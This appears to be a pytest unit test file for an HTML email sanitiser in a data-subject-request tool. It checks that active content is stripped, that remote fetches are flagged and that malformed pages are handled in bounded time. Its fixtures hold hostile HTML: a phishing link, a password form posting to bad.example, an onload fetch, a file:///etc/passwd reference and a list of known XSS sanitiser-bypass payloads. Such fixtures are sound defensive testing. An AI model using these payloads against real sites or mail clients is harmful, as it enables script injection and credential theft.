import re

import pytest

from dsar_desk.cases.defect import Defect
from dsar_desk.mail.html import refers_to_the_world, sanitised, sanitised_json, text_of
from dsar_desk.mail.html_bounds import within_bounds
from tests.unit.mail.letters import mail, read

ACTIVE = """<html><head><base href="http://bad.example/"><meta http-equiv=refresh content="0;url=http://bad.example/r">
<link rel=stylesheet href="http://bad.example/s.css"><style>@import url(http://bad.example/i.css);</style></head>
<body onload="fetch('http://bad.example/x')" background="http://bad.example/bg.png">
<p onclick="x()">Please erase my data. <a href="http://bad.example/phish">https://fernwick.example</a></p>
<img src="http://bad.example/o.gif"><img src="file:///etc/passwd" alt="logo"><iframe src="http://bad.example/f">in</iframe>
<form action="http://bad.example/p" method=post><input name=password><button>Send</button></form>
<script>steal()</script><svg><image href="http://bad.example/v.svg"/></svg><object data="http://bad.example/o"></object>
<video src="http://bad.example/v" autoplay></video><a href="javascript:alert(1)">x</a></body></html>"""


def test_active_html_becomes_its_words() -> None:
    text = text_of(ACTIVE)
    assert "Please erase my data. https://fernwick.example <http://bad.example/phish>" in text
    assert "steal" not in text
    assert "@import" not in text
    assert "[logo]" in text


def tags_of(html: str) -> list[str]:
    return re.findall(r"<[^>]*>", html)


def test_sanitised_html_can_fetch_run_and_submit_nothing() -> None:
    safe = sanitised(ACTIVE)
    assert "Please erase my data." in safe
    assert "http://bad.example/phish" in safe  # where the link leads is readable
    assert set(tags_of(safe)) == {"<p>", "</p>"}
    assert "javascript:" not in safe
    assert sanitised_json(ACTIVE.encode()) == safe


@pytest.mark.parametrize(
    "attack",
    [
        "<p style=\"background:url('http://bad.example/x')\">a</p>",
        "<table background=//bad.example/x><tr><td>a</td></tr></table>",
        "<p title='\"><img src=http://bad.example/x>'>a</p>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>a",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>a",
        "<scr<script>ipt>alert(1)</script>a",
        "&lt;img src=x onerror=alert(1)&gt;a",
        "<b><i><u>a",
    ],
)
def test_no_known_trick_brings_an_attribute_through(attack: str) -> None:
    safe = sanitised(attack)
    assert all(re.fullmatch(r"</?[a-z0-9]+>", tag) for tag in tags_of(safe))


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("One<br>Two", "One\nTwo"),
        ("<div>One</div><div>Two</div>", "One\nTwo"),
        ("<ul><li>One<li>Two</ul>", "- One\n- Two"),
        ("a   b\n c", "a b c"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("x<blockquote>y<br>z</blockquote>", "x\n> y\n> z"),
        ("<a href='mailto:a@b.example'>a@b.example</a>", "a@b.example"),
        ("<a href='https://x.example/y'>here</a>", "here <https://x.example/y>"),
        ("Gr&uuml;&szlig;e&nbsp;&amp; more", "Grüße & more"),
        ("a<span style='display:none'>hidden</span>b", "ab"),
        ("zero\u200bwidth", "zerowidth"),
    ],
)
def test_html_reads_like_text(html: str, text: str) -> None:
    assert text_of(html) == text


def test_a_mail_of_html_alone_has_text() -> None:
    message = read(mail("Content-Type: text/html; charset=utf-8", body="<p>Grüße</p>"))
    assert message.text == "Grüße"
    assert message.html == "<p>Grüße</p>"


@pytest.mark.parametrize(
    ("html", "remote"),
    [
        ("<img src='http://x.example/a.gif'>", True),
        ("<img src=//x.example/a.gif>", True),
        ("<img src='file:///etc/passwd'>", True),
        ("<p style='background:url(https://x.example/)'>", True),
        ("<img src='cid:logo'>", False),
        ("<a href='https://x.example'>x</a>", False),
    ],
)
def test_what_would_be_fetched_is_noticed(html: str, *, remote: bool) -> None:
    assert refers_to_the_world(html) is remote
    message = read(mail("Content-Type: text/html", body=html + "words"))
    assert (Defect.REMOTE_CONTENT in message.defects) is remote


@pytest.mark.parametrize(
    "damage", ["<link ", "<a href='", "<!--", "<![", "<", "&", "<td>", "</", "<b x=", "<!DOCTYPE "]
)
def test_html_broken_without_end_is_read_in_good_time(damage: str) -> None:
    assert text_of("words " + damage * 50_000).startswith("words")


def test_quotations_nested_without_end_stay_readable() -> None:
    assert len(text_of("<blockquote>" * 5_000 + "x")) < 100


@pytest.mark.parametrize(
    ("page", "whole"),
    [
        ("<p>" + "<b>x</b> " * 500, True),
        ("<table>" + "<tr><td>1<td>2" * 20_000, True),
        ("<li>x" * 5_000, True),
        ("<!-- <div> -->" * 5_000 + "x", True),
        ("<div>" * 399 + "x", True),
        ("<div>" * 5_000, False),
        ("<div></div>" * 20_000, True),
        ("&" * 300_000, False),
        ("x" * 1_000_001, False),
    ],
)
def test_only_a_page_that_would_take_long_is_cut_off(page: str, *, whole: bool) -> None:
    part, is_whole = within_bounds(page)
    assert is_whole is whole
    assert page.startswith(part)


def test_a_page_that_was_cut_off_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dsar_desk.mail.html_bounds._LONGEST", 5_000)
    page = "<p>" + "<b>erase</b> my <a href='http://x.example'>data</a> " * 200
    message = read(mail("Content-Type: text/html", body=page))
    assert Defect.TEXT_SHORTENED in message.defects
    assert message.text.startswith("erase my data <http://x.example> erase")
